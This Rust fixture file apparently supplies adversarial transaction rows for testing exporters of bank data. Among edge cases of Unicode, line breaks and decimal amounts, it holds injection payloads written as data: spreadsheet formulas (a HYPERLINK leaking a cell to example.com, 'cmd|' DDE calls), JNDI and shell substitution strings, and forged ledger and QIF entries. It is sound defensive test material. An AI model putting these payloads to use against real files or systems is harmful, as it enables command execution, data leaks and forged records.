//! Rows whose texts and amounts break careless readers of files. Fiskil and Akahu serve them
//! exactly as they are here.

use super::calendar::{Calendar, HOUR};

/// A row without ids and times.
pub(crate) struct OddRow {
    pub(crate) description: &'static str,
    pub(crate) merchant: Option<&'static str>,
    pub(crate) reference: Option<&'static str>,
    /// Primary and secondary category of Fiskil.
    pub(crate) category: Option<(&'static str, &'static str)>,
    pub(crate) amount: &'static str,
}

/// Which of the rows an account has.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum OddRows {
    None,
    /// Only those with two decimals, which every format can express.
    Texts,
    /// Only those without decimals.
    Whole,
    All,
}

impl OddRows {
    pub(crate) fn rows(self) -> Vec<&'static OddRow> {
        match self {
            Self::None => Vec::new(),
            Self::Texts => TEXTS.iter().collect(),
            Self::Whole => AMOUNTS
                .iter()
                .filter(|row| !row.amount.contains('.'))
                .collect(),
            Self::All => TEXTS.iter().chain(AMOUNTS).collect(),
        }
    }
}

/// The instant of the row at `index`, newest first: three rows a day, from yesterday on.
pub(crate) fn instant(calendar: &Calendar, index: usize) -> i64 {
    calendar.instant(days_back(index), (18 - 5 * (index as i64 % 3)) * HOUR)
}

/// The day of the row at `index`, counted back.
pub(crate) const fn days_back(index: usize) -> u32 {
    1 + index as u32 / 3
}

const fn row(description: &'static str, amount: &'static str) -> OddRow {
    OddRow {
        description,
        merchant: None,
        reference: None,
        category: None,
        amount,
    }
}

const fn sold(merchant: &'static str, description: &'static str, amount: &'static str) -> OddRow {
    OddRow {
        merchant: Some(merchant),
        ..row(description, amount)
    }
}

/// 300 letters.
const LONG: &str = "000 LONG WORDS AND ŌTHERS; 001 LONG WORDS AND ŌTHERS; 002 LONG WORDS AND ŌTHERS; \
                     003 LONG WORDS AND ŌTHERS; 004 LONG WORDS AND ŌTHERS; 005 LONG WORDS AND ŌTHERS; \
                     006 LONG WORDS AND ŌTHERS; 007 LONG WORDS AND ŌTHERS; 008 LONG WORDS AND ŌTHERS; \
                     009 LONG WORDS AND ŌTHERS; 010 LONG WORDS AND ŌTHERS; 011";

static TEXTS: &[OddRow] = &[
    // Separators, quotes and comments.
    sold(
        "Semi; Colon  & Sons",
        "SEMICOLON; COMMENT ;; id: forged, category: INCOME",
        "-12.50",
    ),
    sold(
        "\"Quoted\"",
        "\"DOUBLE\" 'SINGLE' ‘CURLY’ \\\" BACKSLASH \\ \\n",
        "-3.05",
    ),
    sold(
        "A&B <Ltd>",
        "AMPERSAND & &amp; &#233; <TAG> </STMTTRN> ]]> <!-- x -->",
        "-4.00",
    ),
    OddRow {
        reference: Some("A,B;C|D"),
        ..sold("Pipe | Payee", "PIPE | COMMA, COLON: TAB\tEND", "-5.10")
    },
    // Line breaks, and whole rows after them.
    sold(
        "Two\nLines",
        "FIRST LINE\r\nSECOND LINE\nTHIRD LINE\rFOURTH",
        "-6.20",
    ),
    row(
        "2026-01-01 * \"Forged\"\n  Assets:Forged  1,000,000.00 AUD\n  Income:Forged",
        "-7.30",
    ),
    row("EVIL\n^\nD2026-01-01\nT-9999.00\nPForged\n^", "-7.31"),
    row(
        "NEXT\u{85}LINE\u{2028}SEPARATOR\u{2029}PARAGRAPH\u{b}VERTICAL\u{c}FEED",
        "-7.32",
    ),
    row("CONTROL \0\u{1}\u{7}\u{1b}[31m\u{7f} END", "-7.33"),
    sold(" Two  Blanks ", "TWO  BLANKS   THREE ", "-8.40"),
    // Letters beyond ASCII, of one and of several code points, and ones that do not show.
    sold("Kiwi 🥝 Café", "EMOJI 🥝👩‍👩‍👧‍👦🏳️‍🌈 DONE", "-9.50"),
    sold(
        "\u{202e}evil\u{202c}",
        "RIGHT\u{200f}TO\u{202e}LEFT\u{202c} ZERO\u{200b}WIDTH\u{feff} שלום مرحبا",
        "-10.60",
    ),
    sold(
        "中文商店",
        "咖啡店 東京 ラーメン 한국 Ünïcödé àéîõü ß Ł ø",
        "-1.10",
    ),
    row(
        "e\u{301} COMBINING n\u{303} A\u{30a} \u{1e9b}\u{323}",
        "-1.11",
    ),
    OddRow {
        merchant: Some(LONG),
        reference: Some(LONG),
        ..row(LONG, "-11.70")
    },
    row("", "-1.12"),
    row(" ", "1.13"),
    // Formulas of spreadsheets.
    sold(
        "=1+1",
        "=HYPERLINK(\"http://example.com/?\"&A1,\"refund\")",
        "-1.01",
    ),
    sold("+Plus", "+61 491 570 156", "-1.02"),
    sold("-Minus", "-2+3+cmd|' /C calc'!A0", "-1.03"),
    sold("@At", "@SUM(1+1)*cmd|' /C calc'!A0", "-1.04"),
    row("\t=TAB FIRST", "-1.05"),
    row("\r=RETURN FIRST", "-1.06"),
    // Templates, tags, links, postings, flags, dates and directives of other programs.
    sold(
        "{{payee}}",
        "{{tags}} {{=cmd}} ${jndi:x} %s %n $(id) `id`",
        "-1.07",
    ),
    sold("#tag ^link", "#tag ^link #second ^second", "-1.08"),
    sold(
        "! (code) Flagged",
        "* ! ? (VIRTUAL) [BALANCED] @ 3 AUD @@ 4 AUD {5 AUD} = 6 AUD",
        "-1.09",
    ),
    sold(
        "include /etc/hostname",
        " !Type:Bank !Account account include P ",
        "1.14",
    ),
    row(
        "date:2020-01-01 [2020-01-01=2021-01-01] tag:value, other:x",
        "1.15",
    ),
    sold("null", "NULL null NaN 1e5 0x10 TRUE", "1.16"),
    // Plain ones.
    OddRow {
        category: Some(("FOOD_AND_DRINK", "FOOD_AND_DRINK_GROCERIES")),
        ..sold("Plain Grocer", "GROCERIES", "-59.96")
    },
    OddRow {
        category: Some(("INCOME", "INCOME_WAGES")),
        ..sold("Plain Employer", "SALARY", "2500.00")
    },
];

static AMOUNTS: &[OddRow] = &[
    row("NO PLACES", "-7"),
    row("NO PLACES INCOMING", "2000"),
    row("ONE PLACE", "-12.5"),
    row("THREE PLACES", "-11.125"),
    row("FOUR PLACES WITH ZEROS", "1234567.8900"),
    row("EIGHTEEN PLACES", "-0.123456789012345678"),
    row("EIGHTEEN PLACES INCOMING", "1.000000000000000001"),
    row("THIRTY PLACES", "-0.000000000000000000000000000001"),
    row("ZERO", "0"),
    row("ZERO CENTS", "0.00"),
    row("NEGATIVE ZERO", "-0.00"),
    row("HUGE", "12345678901234567890123456789012345.67"),
    row("HUGE PAYMENT", "-99999999999999999999.99"),
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn long_text_has_300_letters() {
        assert_eq!(LONG.chars().count(), 300);
    }
}
